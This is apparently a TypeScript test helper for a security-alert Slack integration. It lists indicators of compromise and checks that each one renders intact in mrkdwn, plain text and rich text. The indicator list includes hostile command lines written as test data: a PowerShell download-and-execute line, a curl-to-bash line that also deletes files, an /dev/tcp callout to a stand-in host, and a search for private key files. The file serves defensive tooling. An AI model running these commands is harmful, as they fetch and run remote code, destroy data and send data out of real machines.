/**
 * Real-looking indicators an alert carries (emails, domains, IPs, URLs, hashes, paths, registry keys,
 * command lines), next to the hostile corpus: analysts copy them out of cards into search tools, so
 * each must come out of every view byte for byte. `assertIndicatorIntact` walks a rendered view and
 * checks that: in mrkdwn after Slack's `&amp;`/`&lt;`/`&gt;` are decoded, in plain text and rich text
 * as is — and, in mrkdwn, that no emphasis marker in it is left where Slack would format (and so eat)
 * it: such a value must sit inside a code span.
 */
import { expect } from 'vitest';

export const INDICATORS: readonly string[] = [
  // addresses whose domain starts with a broadcast word
  'bob@heretic.io',
  'x@groupon.com',
  'ops@channelpartner.net',
  'it-support@everyonecounts.org',
  'jane.doe+alerts@acme.io',
  // domains, IPs
  'login-microsoftonline.com.evil-cdn.xyz',
  'xn--80ak6aa92e.com',
  '203.0.113.7',
  '198.51.100.23:8443',
  '2001:db8::ff00:42:8329',
  'fe80::1ff:fe23:4567:890a%eth0',
  // URLs with queries and fragments
  'https://evil.example/login?next=%2Fhome&user=bob@acme.io&token=a1b2#frag',
  'hxxps://malware[.]example/payload.bin?id=7&x=<1>',
  'http://203.0.113.7:8080/cgi-bin/luci;stok=/locale?form=country&operation=write',
  // hashes
  'd41d8cd98f00b204e9800998ecf8427e',
  'da39a3ee5e6b4b0d3255bfef95601890afd80709',
  'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  // Windows paths and registry keys
  'C:\\Users\\bob\\AppData\\Local\\Temp\\invoice_2024.pdf.exe',
  'C:\\Windows\\System32\\*.dll',
  '\\\\fileserver01\\share$\\finance\\Q3 *draft*.xlsx',
  'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
  'HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command',
  // Unix paths
  '~/.ssh/authorized_keys',
  '/tmp/.X11-unix/~x~',
  // command lines: quotes, pipes, &&, redirects, backticks, asterisks, underscores, tildes
  'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
  'cmd.exe /c "whoami /all > C:\\Temp\\o.txt && type C:\\Temp\\o.txt | findstr /i admin"',
  'curl -s http://evil.example/x.sh | bash && rm -f /tmp/*',
  'sort <in.txt >out.txt 2>&1',
  'dir *.exe /s && echo *done*',
  'python -c "import os; os.system(\'id\')" _private_ __init__',
  'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";alert(1)',
  'echo `id` > /dev/tcp/198.51.100.23/4444',
  'find / -name "*.pem" -newer ~/.bashrc ~secret~',
  'snake_case_variable_name',
];

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

const decode = (s: string) => s.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
/** A marker where Slack could open formatting (mirrors src/slack/text.ts). */
const EMPHASIS_OPENER = /(?:^|[^\p{L}\p{N}])[*_~`](?=\S)/u;

type Found = { kind: 'mrkdwn' | 'plain' | 'rich'; text: string };

/** Every text a reader sees in the view, decoded as Slack shows it. */
export function textsOf(view: unknown): Found[] {
  const out: Found[] = [];
  const walk = (node: Json): void => {
    if (Array.isArray(node)) {
      for (const n of node) walk(n);
      return;
    }
    if (!node || typeof node !== 'object') return;
    if (typeof node.text === 'string') {
      if (node.type === 'mrkdwn') out.push({ kind: 'mrkdwn', text: decode(node.text) });
      else if (node.type === 'plain_text') out.push({ kind: 'plain', text: node.text });
      else if (node.type === 'text') out.push({ kind: 'rich', text: node.text });
    }
    for (const v of Object.values(node)) walk(v);
  };
  walk(JSON.parse(JSON.stringify(view)) as Json);
  return out;
}

/** Inside a code span: an odd number of backticks before it on its line. */
function inCodeSpan(text: string, at: number): boolean {
  const line = text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
  return (line.match(/`/g)?.length ?? 0) % 2 === 1;
}

/**
 * Asserts `indicator` is shown intact somewhere in the view (at least `min` times), and that every
 * mrkdwn occurrence of an indicator with emphasis markers (and no backtick) is inside a code span.
 */
export function assertIndicatorIntact(view: unknown, indicator: string, where: string, min = 1): void {
  const texts = textsOf(view);
  let seen = 0;
  for (const t of texts) {
    let at = t.text.indexOf(indicator);
    while (at >= 0) {
      seen++;
      if (t.kind === 'mrkdwn' && EMPHASIS_OPENER.test(indicator) && !indicator.includes('`')) {
        expect(inCodeSpan(t.text, at), `${where}: ${JSON.stringify(indicator)} where mrkdwn would format it`).toBe(
          true,
        );
      }
      at = t.text.indexOf(indicator, at + indicator.length);
    }
  }
  expect(
    seen,
    `${where}: ${JSON.stringify(indicator)} not found intact in ${JSON.stringify(texts)}`,
  ).toBeGreaterThanOrEqual(min);
}
